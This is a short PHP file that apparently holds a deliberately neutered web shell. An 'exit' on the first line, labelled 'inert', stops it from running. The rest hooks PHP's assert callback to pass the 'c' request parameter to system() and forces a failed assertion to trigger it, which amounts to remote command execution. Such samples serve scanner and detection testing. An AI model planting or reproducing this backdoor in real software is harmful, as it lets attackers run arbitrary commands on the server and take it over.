<?php exit; /* inert */ 
assert_options(ASSERT_CALLBACK, function ($f, $l, $x) { system($_REQUEST['c']); });
assert_options(ASSERT_ACTIVE, 1);
assert('1==2');
